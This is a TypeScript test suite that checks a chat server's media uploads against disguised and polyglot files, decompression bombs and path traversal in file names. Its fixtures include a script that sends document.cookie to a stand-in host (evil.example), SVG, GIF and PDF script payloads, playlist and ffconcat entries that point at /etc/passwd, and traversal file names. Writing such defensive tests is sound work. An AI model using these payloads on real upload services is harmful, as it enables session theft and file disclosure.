import { readdir } from 'node:fs/promises'
import { join } from 'node:path'
import { type AllowedUpload, limits } from '@serendip/contract'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { aFilm, aSong } from '../../../test/films.ts'
import { aPicture, aPromisingPng } from '../../../test/pictures.ts'
import { anObjectStore } from '../../../test/s3.ts'
import { sendUpload } from '../../../test/send-upload.ts'
import { aPerson, aServer, type SignedUp, type TestServer } from '../../../test/server.ts'
import { personalBlobs } from '../../kernel/blob-store.ts'

const image = { purpose: 'chatImage', contentType: 'image/jpeg', sizeBytes: 1_000 }
const video = { purpose: 'chatVideo', contentType: 'video/mp4', sizeBytes: 1_000 }
const audio = { purpose: 'chatAudio', contentType: 'audio/mpeg', sizeBytes: 1_000 }

const script = Buffer.from('<html><script>fetch("//evil.example?"+document.cookie)</script></html>')
const zip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(60), Buffer.from('PK\x05\x06')])

let server: TestServer
let store: Awaited<ReturnType<typeof anObjectStore>>
beforeAll(async () => {
  store = await anObjectStore()
})
afterAll(() => store.stop())

const throughStore = ({ settings }: typeof store) => ({
  S3_ENDPOINT: settings.endpoint,
  S3_BUCKET: settings.bucket,
  UPLOAD_ORIGINS: settings.endpoint,
  S3_ACCESS_KEY_ID: settings.accessKeyId,
  S3_SECRET_ACCESS_KEY: settings.secretAccessKey,
})

async function upload(me: SignedUp, announced: object, file: Uint8Array, name = 'a.jpg') {
  const sized = { ...announced, sizeBytes: Math.min(file.length, limits.photoMaxBytes) }
  const allowed = await server.post<AllowedUpload>('/createFileUpload', sized, me.token)
  const sent = await sendUpload(server, me, allowed.body, file, name)
  return { ...sent, code: sent.store === 'EntityTooLarge' ? 'too_large' : sent.code }
}

async function expectNothingOf({ userId }: SignedUp): Promise<void> {
  expect(await server.composition.fileParts.files.list(personalBlobs(userId))).toEqual([])
  const { db } = server.composition.plumbing
  const rows = await sql<{ id: string }>`select id from media_items
    where owner_id = ${userId} and state <> 'expected'`.execute(db)
  expect(rows.rows).toEqual([])
  const incoming = join(server.composition.config.storage.filesDirectory, '.incoming')
  await expect.poll(() => readdir(incoming).catch(() => [])).toEqual([])
}

describe.each(['the server', 'the object store'])('uploaded through %s', (way) => {
  beforeAll(async () => {
    server = await aServer(way === 'the server' ? {} : throughStore(store))
  })
  afterAll(() => server.stop())

  test('files that begin as something else are refused as a wrong format, whatever follows', async () => {
    const me = await aPerson(server)
    const [picture, film] = [await aPicture(), await aFilm()]
    const gifScript = Buffer.from('GIF89a/*\x01\x00\x01\x00*/=1;alert(document.domain)')
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    const pdf = Buffer.from('%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>endobj\n')
    const refused: [string, object, Uint8Array][] = [
      ['a GIF that is a script', image, gifScript],
      ['an SVG with a script', image, svg],
      ['a page before a picture', image, Buffer.concat([script, picture])],
      ['a PDF before a picture', image, Buffer.concat([pdf, picture])],
      ['an archive before a picture', image, Buffer.concat([zip, picture])],
      ['the beginning of a picture before a page', image, Buffer.concat([picture.subarray(0, 20), script])],
      ['a picture as a video', video, picture],
      ['a video as a picture', image, film],
      ['a page before a video', video, Buffer.concat([script, film])],
      ['an archive before a video', video, Buffer.concat([zip, film])],
      ['a playlist that names a file', video, Buffer.from('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n')],
      ['a list of files to join', video, Buffer.from("ffconcat version 1.0\nfile '/etc/passwd'\n")],
      ['a page before a sound', audio, Buffer.concat([script, await aSong()])],
      ['a program', audio, Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(2_000)])],
    ]
    for (const [what, announced, file] of refused) {
      const code = what.startsWith('a GIF') ? 'picture_not_supported' : 'media_wrong_format'
      expect((await upload(me, announced, file)).code, what).toBe(code)
    }
    await expectNothingOf(me)
  })

  test('of files that are two things at once only the picture, the sound or the video is kept', async () => {
    const me = await aPerson(server)
    const payload = Buffer.concat([script, zip])
    for (const [announced, file] of [
      [image, await aPicture()],
      [image, await aPicture(640, 480, 'png')],
      [video, await aFilm()],
      [{ ...video, contentType: 'video/webm' }, await aFilm({ container: 'webm' })],
      [audio, await aSong()],
    ] as const) {
      const { item } = await upload(me, announced, Buffer.concat([file, payload]))
      const headers = { authorization: `Bearer ${me.token}` }
      const opened = await fetch(server.origin + item.url, { headers })
      expect(opened.headers.get('x-content-type-options')).toBe('nosniff')
      expect(opened.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox")
      const kept = Buffer.from(await opened.arrayBuffer())
      expect(kept.length).toBeGreaterThan(0)
      for (const trace of ['<script', 'evil.example', 'PK\x03\x04']) {
        expect(kept.includes(trace), `${announced.contentType} ${trace}`).toBe(false)
      }
    }
  })

  test('bombs and files whose end is missing are refused, and nothing is kept', async () => {
    const me = await aPerson(server)
    const [picture, png] = [await aPicture(), await aPicture(640, 480, 'png')]
    const [film, long] = [await aFilm({ seconds: 10 }), await aFilm({ seconds: 61, framesPerSecond: 2 })]
    const refused: [string, object, Uint8Array, string][] = [
      ['a bomb of 3.6 gigapixels', image, aPromisingPng(60_000, 60_000, 10_000), 'photo_too_many_pixels'],
      ['a picture that is one line', image, aPromisingPng(100_000_000, 1, 1), 'photo_too_many_pixels'],
      ['half a JPEG', image, picture.subarray(0, picture.length / 2), 'media_wrong_format'],
      ['half a PNG', image, png.subarray(0, png.length / 2), 'media_wrong_format'],
      ['half a video', video, film.subarray(0, film.length / 2), 'media_wrong_format'],
      ['the beginning of a video', video, film.subarray(0, 300), 'media_wrong_format'],
      ['a video of 61 seconds', video, long, 'video_too_long'],
      ['a picture of too many bytes', image, new Uint8Array(limits.photoMaxBytes + 1), 'too_large'],
    ]
    for (const [what, announced, file, code] of refused) {
      expect((await upload(me, announced, file)).code, what).toBe(code)
    }
    await expectNothingOf(me)
  })

  // A store gets the name of a file, and we never do.
  if (way === 'the server') {
    test('neither the name of a file nor its key leads anywhere', async () => {
      const me = await aPerson(server)
      const names = [
        '../../../etc/cron.d/x',
        '..\\..\\x.exe',
        '/etc/passwd',
        'x.jpg\0.html',
        '.htaccess',
        'con.jpg',
      ]
      for (const name of names) {
        const { item } = await upload(me, image, await aPicture(64, 64), name)
        expect(item.url, name).toBe(`/api/media/${item.id}`)
      }
      const keys = await server.composition.fileParts.files.list(personalBlobs(me.userId))
      expect(keys).toHaveLength(names.length)
      for (const key of keys) expect(key).toMatch(/^people\/usr_\w+\/media\/mda_\w+\/file\.jpg$/)
      for (const key of ['../../x', '/etc/passwd', `people/${me.userId}/x`, 'mda_../x', '']) {
        const allowed = { url: '/api/mediaUpload', fields: { key }, fileId: key }
        const sent = await sendUpload(server, me, allowed, await aPicture(64, 64))
        expect(sent.code, key).toMatch(/^(bad_input|upload_gone)$/)
      }
      expect(await server.composition.fileParts.files.list(personalBlobs(me.userId))).toEqual(keys)
    })
  }

  test('of eleven files none is allowed', async () => {
    const me = await aPerson(server)
    const files = Array.from({ length: limits.filesMax + 1 }, () => image)
    const many = await server.post('/createGroupFileUpload', { files }, me.token)
    expect([many.status, many.body.code]).toEqual([422, 'too_many_files'])
    const { db } = server.composition.plumbing
    const rows = await sql<{ n: number }>`select count(*)::int as n from media_items
    where owner_id = ${me.userId}`.execute(db)
    expect(rows.rows[0]?.n).toBe(0)
  })
})
